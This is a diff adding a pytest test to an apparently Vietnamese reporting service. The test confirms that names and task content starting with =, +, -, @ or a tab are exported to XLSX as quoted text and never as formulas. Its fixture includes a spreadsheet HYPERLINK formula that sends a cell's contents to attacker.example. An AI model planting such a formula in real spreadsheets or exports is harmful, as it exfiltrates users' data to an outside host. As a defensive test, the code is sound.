@@ -190,3 +190,30 @@ def test_the_offices_intake_compliance_is_counted_by_month_D6_1(
     assert january["on_time_rate"] == 0.5 and february["released"] == 0
     assert march["released"] == 1  # 00:30 local on 1 March is March, though UTC says February
     assert body["totals"]["released"] == 3 and refused.status_code == 403
+
+
+def test_text_that_looks_like_a_formula_is_never_a_formula_in_the_xlsx(
+    tmp_path: Path, bus_namespace: str
+) -> None:
+    """A unit name or task content starting with =, +, -, @, a tab or CR (OWASP "CSV
+    injection") is stored as text in every sheet, never as a formula Excel would run."""
+    link = '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")'
+    names = {"SO_A": link, "SO_B": "+1+1", "SO_C": "-2+3", "SO_D": "@SUM(1,2)", "SO_E": "\t=1"}
+    with reporting_service(tmp_path, bus_namespace) as service:
+        for code, name in names.items():
+            unit(service, code, name)
+            task = Task(service, code, "2026-10-05", None)
+            task.send("task.accepted", "in_progress", at("2026-10-06"), content=link)
+        report = generate(service)
+        answer = service.client.get(
+            f"/api/reporting/reports/{report['id']}.xlsx", headers=headers()
+        )
+    assert answer.status_code == 200
+    book = load_workbook(BytesIO(answer.data))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
+    assert set(names.values()) <= texts
+    assert link in {cell.value for cell in book["Giải trình (Đ17.4)"]["B"]}
+    risky = [cell for cell in cells if isinstance(cell.value, str) and cell.value[:1] in "=+-@\t"]
+    assert risky and all(cell.data_type == "s" and cell.quotePrefix for cell in risky)
